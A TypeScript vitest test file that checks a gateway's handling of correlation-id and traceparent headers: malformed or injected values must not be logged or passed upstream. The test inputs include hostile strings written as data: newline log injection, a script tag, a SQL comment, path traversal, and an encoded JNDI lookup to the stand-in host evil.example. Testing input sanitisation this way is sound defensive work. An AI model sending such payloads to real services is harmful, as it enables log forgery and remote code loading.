import { expect, it } from 'vitest';
import { readLog, unlimited } from '../support/abuse.ts';
import { sendChanged } from '../support/send-changed.ts';
import { startStack } from '../support/stack.ts';
import { eachRequest, toUnseen } from '../support/valid-requests.ts';

const stack = await startStack({ settings: unlimited });

const badIds = [
  'a%0a{"level":"error"}',
  'x'.repeat(5 * 1024),
  'x'.repeat(129),
  'with blanks',
  '{"level":"error"}',
  '<script>',
  "';--",
  '%24{jndi:ldap://evil.example}',
  'a\tb',
  'ümlaut',
];

it.each(eachRequest)(
  'A61 %s passes a well-formed correlation id on and makes a new one for any other',
  async (_, request) => {
    for (const id of ['b3f1c0de-0000-4000-8000-000000000001', 'a.b_c-1', ...badIds]) {
      const isGood = /^[\w.-]{1,128}$/.test(id);
      await stack.upstream.reset();
      const logged = stack.log.length;
      const bytes = Buffer.from(id).toString('latin1');
      const answer = await sendChanged(stack, toUnseen(request), { headers: { 'x-ms-client-request-id': bytes } });
      // The host refuses some before anyone sees them: control characters that are no tab.
      if (answer.text === '' && answer.status === 400) continue;
      const records = stack.log.slice(logged);
      expect(records, id).toHaveLength(1);
      expect(readLog(stack, logged).includes(JSON.stringify(id).slice(1, -1)), id).toBe(isGood);
      const [call] = await stack.upstream.calls();
      const sentUp = call?.headers['x-ms-client-request-id'];
      expect(sentUp === id, id).toBe(isGood);
      expect(sentUp).toMatch(/^[\w.-]{1,128}$/);
      expect(JSON.stringify(answer.headers).includes('level'), id).toBe(false);
    }
  },
);

const traceId = '0af7651916cd43dd8448eb211c80319c';
const badTraces = [
  `00-${traceId}`,
  `00-${'0'.repeat(32)}-b7ad6b7169203331-01`,
  `00-${traceId}-${'0'.repeat(16)}-01`,
  `ff-${traceId}-b7ad6b7169203331-01`,
  `00-${traceId.toUpperCase()}-b7ad6b7169203331-01`,
  `00-${traceId}-b7ad6b7169203331-01-{"level":"error"}`,
  '00-../../x-b7ad6b7169203331-01',
  'x'.repeat(2_000),
];

it.each(eachRequest)('A61 %s neither logs nor passes on a traceparent that is none', async (_, request) => {
  for (const traceparent of badTraces) {
    await stack.upstream.reset();
    const logged = stack.log.length;
    await sendChanged(stack, toUnseen(request), { headers: { traceparent, tracestate: 'canary=1' } });
    const said = readLog(stack, logged) + JSON.stringify((await stack.upstream.calls()).map(({ headers }) => headers));
    expect(stack.log).toHaveLength(logged + 1);
    expect(said).not.toContain(traceparent);
    expect(said).not.toMatch(/level|canary/);
  }
});

it.each(eachRequest)('A61 %s takes no correlation id from a field that is not specified', async (_, request) => {
  await stack.upstream.reset();
  const logged = stack.log.length;
  const names = [
    'x-correlation-id',
    'x-request-id',
    'request-id',
    'x-ms-request-id',
    'x-ms-correlation-request-id',
    'x-amzn-trace-id',
  ];
  await sendChanged(stack, toUnseen(request), { headers: Object.fromEntries(names.map((name) => [name, 'canary'])) });
  const calls = await stack.upstream.calls();
  expect(calls).toHaveLength(1);
  expect(readLog(stack, logged) + JSON.stringify(calls)).not.toContain('canary');
});
